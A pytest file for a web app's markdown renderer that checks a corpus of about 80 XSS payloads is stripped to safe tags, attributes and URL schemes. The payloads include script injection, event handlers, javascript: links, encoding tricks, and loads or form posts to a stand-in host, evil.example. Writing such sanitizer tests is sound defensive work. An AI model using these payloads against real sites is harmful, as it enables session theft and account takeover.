"""Markdown as people write it, and as attackers do."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from loopline.platform.ui import markdown
from loopline.platform.ui.markdown import plain, render

ALLOWED = markdown._TAGS
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`%00` onerror=this.onerror=confirm(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div hx-get=/undo hx-trigger=load>x</div>",
    "<div data-hx-post=/undo data-hx-trigger=load>x</div>",
    "<a hx-on:click=alert(1)>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example\\" onmouseover=\\"alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/?q=<script>>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[![x](https://evil.example/p.png)](https://a.example)",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "# <svg onload=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "- <iframe src=//evil.example>",
    "<p id=main>x</p><p name=body>y</p>",
    "<x onclick=alert(1) class=btn>",
    "\u2028<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
    "a" * 200_000 + "<script>alert(1)</script>",
    "[" * 2_000 + "x",
    ">" * 500 + "<script>alert(1)</script>",
]


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += [(tag, name, value or "") for name, value in attrs]


def seen(html: str) -> Seen:
    parser = Seen()
    parser.feed(html)
    return parser


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_comes_through(text):
    for html in (render(text), render(f"before\n\n{text}\n\nafter @ann FB-12", lambda _: "/x")):
        found = seen(html)
        assert found.tags <= ALLOWED
        for tag, name, value in found.attrs:
            assert (tag, name) in {("a", "href"), ("a", "rel"), ("th", "align"), ("td", "align")}
            if name == "href":
                assert urlsplit(value).scheme in {"", "http", "https", "mailto"}


def test_links_give_nothing_away():
    assert render("[x](https://a.example)") == (
        '<p><a href="https://a.example" rel="nofollow noopener">x</a></p>\n'
    )


def test_no_image_is_fetched_from_anywhere():
    assert "<img" not in render("![pixel](https://evil.example/p.png)")


def test_references_and_mentions_become_links_where_they_are_known():
    known = {"FB-12": "/feedback/12", "@ann": "/people/1"}
    html = render("See FB-12 and FB-99, @ann; mail ann@ann.example, `FB-12`", known.get)
    assert html.count('href="/feedback/12"') == 1
    assert html.count('href="/people/1"') == 1
    assert "<code>FB-12</code>" in html
    assert "FB-99" in html


def test_a_reference_inside_a_link_stays_the_links_text():
    html = render("[FB-12](https://a.example)", {"FB-12": "/feedback/12"}.get)
    assert "/feedback/12" not in html


def test_an_address_from_the_resolver_is_escaped():
    html = render("FB-12", lambda _: '"><script>alert(1)</script>')
    assert "<script" not in html


def test_headings_never_jump_a_level():
    assert seen(render("### deep\n\n# top\n\n##### deeper")).tags >= {"h3", "h4"}
    assert render("##### only").startswith("<h3>")


def test_plain_words_are_cut_at_a_word():
    assert plain("**Some** _words_ & <b>more</b>") == "Some words & <b>more</b>"
    assert plain("one two three four", 11) == "one two…"
    assert plain(None) == ""
    assert render("") == ""
